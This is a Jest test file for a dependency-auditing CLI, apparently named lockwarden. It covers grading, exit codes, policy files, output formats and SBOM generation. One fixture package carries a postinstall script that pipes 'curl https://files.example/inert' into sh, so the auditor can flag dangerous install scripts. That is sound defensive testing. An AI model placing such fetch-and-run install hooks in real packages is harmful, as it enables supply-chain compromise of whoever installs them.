import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { describe, expect, it } from '@jest/globals'
import type { Report } from '../../src/report/report.js'
import { cycloneDxErrors } from '../builders/cyclonedx-schema.js'
import { aManifest, aPackageLock } from '../builders/lockfile.js'
import { sriOf } from '../builders/registry.js'
import { buildTarball } from '../builders/tarball.js'
import { type PublishedPackage, startRegistry, type TestRegistryOptions } from '../emulator/registry.js'
import { inFolder, run } from './run.js'

/** builder runs an install script that only a reader of its code finds dangerous. */
async function published() {
  const manifest = { scripts: { postinstall: 'node setup.js' } }
  const tarballs = {
    'left-pad': await buildTarball({
      'package.json': '{"name": "left-pad", "version": "1.0.0"}',
      'index.js': "exports.pad = (text) => ' ' + text\n",
    }),
    builder: await buildTarball({
      'package.json': JSON.stringify({ name: 'builder', version: '2.0.0', ...manifest }),
      'setup.js': "require('child_process').execSync('curl https://files.example/inert | sh')\n",
    }),
  }
  const packages: Readonly<Record<string, PublishedPackage>> = {
    'left-pad': { versions: { '1.0.0': { tarball: tarballs['left-pad'] } } },
    builder: { versions: { '2.0.0': { tarball: tarballs.builder, manifest } } },
  }
  const locked = {
    'node_modules/left-pad': { version: '1.0.0', integrity: sriOf('sha512', tarballs['left-pad']) },
    'node_modules/builder': { version: '2.0.0', integrity: sriOf('sha512', tarballs.builder) },
  }
  const files = {
    'package.json': aManifest({ packages: locked }),
    'package-lock.json': aPackageLock({ packages: locked }),
  }
  return { packages, files }
}

const workflow = (...commands: readonly string[]): string =>
  `on: pull_request\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n${commands.map((command) => `      - run: ${command}\n`).join('')}`

const careful = {
  '.github/workflows/ci.yml': workflow('npm ci --ignore-scripts', 'npm audit --audit-level=high', 'npm sbom'),
}

async function withProject<T>(
  more: Readonly<Record<string, string>>,
  use: (folder: string, args: readonly string[]) => Promise<T>,
  options: Partial<TestRegistryOptions> = {},
): Promise<T> {
  const { packages, files } = await published()
  const server = await startRegistry({ packages, ...options })
  try {
    return await inFolder({ ...files, ...more }, (folder) =>
      use(folder, ['audit', '--registry', server.url, '--cache', join(folder, '.cache')]),
    )
  } finally {
    await server.close()
  }
}

const reportOf = (out: string): Report => JSON.parse(out) as Report

describe('lockwarden audit', () => {
  it('prints a page with the grade first, what is installed, and what gives points back', async () => {
    await withProject({ '.github/workflows/ci.yml': workflow('npm ci --ignore-scripts') }, async (folder, args) => {
      const { code, out, err } = await run(folder, args)

      expect([code, err]).toEqual([0, ''])
      expect(out).toMatch(/^FLAGGED {2}grade B( at most)? \(8[67] of 100/)
      expect(out).toContain('MEDIUM  no advisory gate in CI\n')
      expect(out.replace(/\s+/g, ' ')).toContain(
        'Of 2 packages 1 runs an install script: builder@2.0.0. All are locked by a hash. Of 2 direct dependencies 0 have provenance. The repository holds no bill of materials.',
      )
      expect(out).toMatch(/To earn points back:\n +−8 {2}audit-missing: /)
      expect(out).toContain('2 packages, judged by lockfile and registry, not opened\n')
    })
  })

  it('takes the folder that it is given, and prints JSON that says the same without a base', async () => {
    await withProject(careful, async (folder, args) => {
      const { code, out } = await run('/', [...args, folder, '--format', 'json'])
      const { base, head, tree, grade, coverage, changes } = reportOf(out)

      expect([code, base, head]).toEqual([0, undefined, { kind: 'directory', path: folder }])
      expect(tree).toEqual({
        packages: 2,
        installScripts: ['builder@2.0.0'],
        withIntegrity: 2,
        withoutIntegrity: 0,
        provenance: { direct: 2, attested: 0, unknown: 0 },
        sbom: { state: 'absent', files: [] },
      })
      expect(grade?.score).toBeGreaterThanOrEqual(90)
      expect([coverage.expected, changes.length]).toEqual([0, 2])
    })
  })

  it('opens the packages where it is told to, and exits 1 for what is in them', async () => {
    await withProject(careful, async (folder, args) => {
      const { code, out } = await run(folder, [...args, '--packages', '--format', 'json'])
      const { verdict, findings, coverage } = reportOf(out)

      expect([code, verdict, coverage.analysed]).toEqual([1, 'flagged', 2])
      expect(findings.map(({ rule }) => rule)).toContain('install-script-dangerous')
    })
  })

  it('exits 2 and is provisional where the registry cannot be asked', async () => {
    await withProject(careful, async (folder, args) => {
      const { code, out } = await run(folder, [...args, '--offline', '--format', 'json'])
      const { verdict, grade } = reportOf(out)

      expect([code, verdict, grade?.provisional, grade?.letter]).toEqual([2, 'incomplete', true, 'B'])
    })
  })

  it('exits 2 where nothing is to be audited: whoever audits the wrong folder must not read that all is well', async () => {
    await inFolder({ 'notes.txt': 'none' }, async (folder) => {
      const { code, out } = await run(folder, ['audit', '--offline'])

      expect(code).toBe(2)
      expect(out).toContain('no lockfile, manifest or setting that could be audited is here')
    })
  })

  it("exits 3 for a mistake in the repository's policy, and reports all the same", async () => {
    const more = { ...careful, '.github/lockwarden.yml': 'version: 1\nfailon: high\n' }
    await withProject(more, async (folder, args) => {
      const { code, out, err } = await run(folder, [...args, '--format', 'json'])

      expect([
        code,
        reportOf(out)
          .findings.map(({ rule }) => rule)
          .includes('policy-invalid'),
      ]).toEqual([3, true])
      expect(err).toContain('.github/lockwarden.yml:2: failon')
    })
  })

  it('exits 3 for a folder that is not there', async () => {
    await inFolder({}, async (folder) => {
      const { code, err } = await run(folder, ['audit', 'nowhere'])
      expect([code, err]).toEqual([3, expect.stringContaining('nowhere cannot be read as a directory (ENOENT)')])
    })
  })

  it('lets what the policy accepts cost nothing, and what it turns off', async () => {
    const policy =
      'version: 1\nrules: { sbom-missing: off }\naccept:\n  - { package: "*", version: "*", rule: audit-missing, reason: asked elsewhere, until: 2026-12-31 }\n'
    await withProject({ '.github/lockwarden.yml': policy }, async (folder, args) => {
      const { findings, grade } = reportOf((await run(folder, [...args, '--format', 'json'])).out)

      expect(findings.find(({ rule }) => rule === 'audit-missing')?.accepted).toEqual({
        by: 'policy',
        reason: 'asked elsewhere',
        until: '2026-12-31',
      })
      expect(grade?.deductions.map(({ rule }) => rule).filter((rule) => /^(audit|sbom)-missing$/.test(rule))).toEqual(
        [],
      )
    })
  })

  it.each(['markdown', 'html', 'sarif'])('prints %s', async (format) => {
    await withProject(careful, async (folder, args) => {
      const { out } = await run(folder, [...args, '--format', format])
      expect(out).toContain(format === 'sarif' ? '"grade": {' : 'grade ')
    })
  })
})

describe('lockwarden audit --sbom cyclonedx', () => {
  it('prints the components of the lockfile without asking a registry, the same bytes each time', async () => {
    const { files } = await published()
    await inFolder(files, async (folder) => {
      const first = await run(folder, ['audit', '--sbom', 'cyclonedx'])
      const second = await run(folder, ['audit', '--sbom', 'cyclonedx', '--output', 'bom.json'])

      expect([first.code, first.err, second.code, second.out]).toEqual([0, '', 0, ''])
      expect(readFileSync(join(folder, 'bom.json'), 'utf8')).toBe(first.out)
      expect(cycloneDxErrors()(first.out)).toEqual([])
      const { components } = JSON.parse(first.out) as { components: { purl: string }[] }
      expect(components.map(({ purl }) => purl)).toEqual(['pkg:npm/builder@2.0.0', 'pkg:npm/left-pad@1.0.0'])
    })
  })

  it('exits 2 and says so where the list may lack something', async () => {
    await inFolder({ 'package-lock.json': '{' }, async (folder) => {
      const { code, err } = await run(folder, ['audit', '--sbom', 'cyclonedx'])
      expect([code, err]).toEqual([2, expect.stringContaining('lockfile-unreadable')])
    })
    await inFolder({}, async (folder) => {
      const { code, err } = await run(folder, ['audit', '--sbom', 'cyclonedx'])
      expect([code, err]).toEqual([2, 'lockwarden: no lockfile is here: the list is empty\n'])
    })
  })

  it('exits 3 for a format that it cannot be printed in, and for one that it does not know', async () => {
    await inFolder({}, async (folder) => {
      const other = await run(folder, ['audit', '--sbom', 'cyclonedx', '--format', 'html'])
      const unheard = await run(folder, ['audit', '--sbom', 'spdx'])
      expect([other.code, other.err]).toEqual([3, 'lockwarden: --sbom prints JSON of its own, not html\n'])
      expect(unheard.code).toBe(3)
    })
  })
})
